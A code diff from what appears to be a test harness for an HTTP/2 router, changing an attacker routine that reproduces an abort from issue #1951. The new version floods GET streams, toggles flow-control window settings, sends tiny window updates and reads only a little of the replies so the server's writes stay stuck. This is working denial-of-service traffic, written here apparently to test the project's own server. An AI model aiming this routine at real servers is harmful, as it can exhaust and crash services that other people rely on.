@@ -138,27 +138,35 @@ static void run_made_you_reset(struct attacker *attacker)
 
 /* ---- the abort of issue #1951 ------------------------------------------------------------------------------------- */
 
+/* Less than is asked for meanwhile: the router's write stays unfinished, with the ends of many answers in it. */
+static void read_little(int fd)
+{
+    static __thread uint8_t space[65536];
+    for (unsigned i = 0; i < 10; i++)
+        if (recv(fd, space, sizeof(space), MSG_DONTWAIT) <= 0)
+            return;
+}
+
 static void ask_for_more_than_fits(struct attacker *attacker, int fd)
 {
     struct kv_buf out = {0};
     uint32_t stream = 1;
+    bool open = true;
     hello(&out);
     frame32(&out, WINDOW_UPDATE, 0, 1u << 30);
-    for (unsigned round = 0; round < 20 && push(attacker, fd, &out, true); round++) {
-        for (unsigned i = 0; i < 40; i++, stream += 2)
+    for (unsigned round = 0; round < 100 && open; round++) {
+        for (unsigned i = 0; i < (round == 0 ? 100 : 15); i++, stream += 2)
             request(&out, "GET", "/" ATTACK_KEY_MIDDLE, END_STREAM | END_HEADERS, stream);
         push(attacker, fd, &out, true);
-        usleep(5000);
-        for (unsigned i = 0; i < 3; i++) {
-            window_setting(&out, 0);
-            window_setting(&out, 65535);
-        }
-        for (uint32_t id = stream > 160 ? stream - 160 : 1; id < stream; id += 2)
-            frame32(&out, id % 6 == 1 ? RST_STREAM : WINDOW_UPDATE, id, 8);
+        usleep(round == 0 ? 50000 : 5000);
+        window_setting(&out, 0);
+        window_setting(&out, 65535);
+        for (uint32_t id = stream > 200 ? stream - 200 : 1; id < stream && attacker->index % 2 == 0; id += 2)
+            frame32(&out, WINDOW_UPDATE, id, 1);
         attacker->units += 80;
-        push(attacker, fd, &out, true);
+        open = push(attacker, fd, &out, true);
         usleep(2000);
-        read_away(fd);
+        read_little(fd);
     }
     kv_buf_free(&out);
 }
